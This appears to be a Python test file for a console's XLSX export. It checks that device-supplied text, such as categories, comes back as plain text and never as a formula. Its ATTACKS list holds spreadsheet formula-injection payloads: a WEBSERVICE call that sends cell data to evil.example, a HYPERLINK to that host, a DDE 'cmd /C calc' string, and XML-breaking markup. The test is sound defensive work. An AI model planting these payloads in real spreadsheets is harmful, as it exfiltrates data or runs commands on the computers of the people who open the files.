"""The console's XLSX downloads go through the one writer (fieldkit.sheets.writer): text that
devices sent (a category, a name) comes back as text, never a formula, and the workbook opens
with python-calamine cell by cell; the daily report is downloaded over real HTTP."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import httpx
import pytest
from python_calamine import CalamineWorkbook

from fieldkit.i18n import t
from sync.server.console.exports import ledger_xlsx
from sync.testing import LoopbackServer, TestTown, drop_repo, make_repo

from .console_support import PASSWORD
from .test_console_units import FAST, login

ATTACKS = [
    '=WEBSERVICE("http://evil.example/?"&B3)',
    '=HYPERLINK("http://evil.example","点我")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "<r>&</r>",  # XlsxWriter's raw rich-string form: broke the whole file before
    "<r><t>a</t></r></is><f>1+1</f><is><r><t>b</t></r>",
]


def sheet_of(data: bytes) -> list[list[object]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), name  # no formula anywhere
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()


def test_trace_layout_cell_by_cell():
    headers = ["序号", "时间", "卡口", "姓名", "身份证号", "次数"]
    rows = [
        [i + 1, "2026-12-02 08:00:00", "CP-E", text, "110105********002X", 2.5]
        for i, text in enumerate(ATTACKS)
    ] + [[99, None, "", "李*", "11010519491231002X", 0]]
    got = sheet_of(ledger_xlsx("追踪 =1+1", "导出人 clerk", headers, rows))
    assert got[0][0] == "追踪 =1+1" and got[1][0] == "导出人 clerk"
    assert got[2] == headers
    want = [[float(c) if isinstance(c, int) else c for c in r] for r in rows]
    want[-1][1] = ""  # an empty cell reads back as ""
    assert got[3:] == want  # numbers as numbers, the ID as text, every attack as its text


@pytest.fixture
def town(tmp_path):
    repo = make_repo("sqlite", str(tmp_path))
    town = TestTown(repo)
    town.app.state.console.accounts.hasher = FAST
    yield town
    town.app.state.console.db.close()
    drop_repo(repo)


def test_daily_report_download_keeps_device_text_as_text(town):
    from sync import protocol as p
    from sync.testing import SyncASGITransport, fake_record

    today = date.today().isoformat()
    transport = SyncASGITransport(town.app)
    with httpx.Client(transport=transport, base_url="http://town") as http:
        device_id, key = town.enroll_raw(http, "gate-a")
        records = [
            fake_record(i, checkpoint="CP-A", day=today, extra={"category": attack})
            for i, attack in enumerate(ATTACKS)
        ]
        _, body = town.seal(device_id, key, records)
        r = http.post(p.PATH_BATCHES, content=body, headers={"X-Fieldkit-Device": device_id})
        assert r.json()["counts"]["stored"] == len(ATTACKS)
    transport.shutdown()
    town.app.state.console.accounts.add("clerk", "officer", PASSWORD)
    with LoopbackServer(town.app) as srv, httpx.Client(base_url=srv.url) as http:
        login(http, "clerk")
        r = http.get("/console/reports/xlsx", params={"day": today})
    assert r.status_code == 200 and r.content.startswith(b"PK")
    got = sheet_of(r.content)
    assert got[2][0] == t("console.col.checkpoint", "zh") and len(got[2]) == 11  # with 禁止
    cp = next(row for row in got[3:] if row[0] == "CP-A")
    assert cp[10] == float(len(ATTACKS))  # the total, a number
    categories = {row[0]: row[2] for row in got if row[0] in ATTACKS}
    assert categories == {attack: 1.0 for attack in ATTACKS}
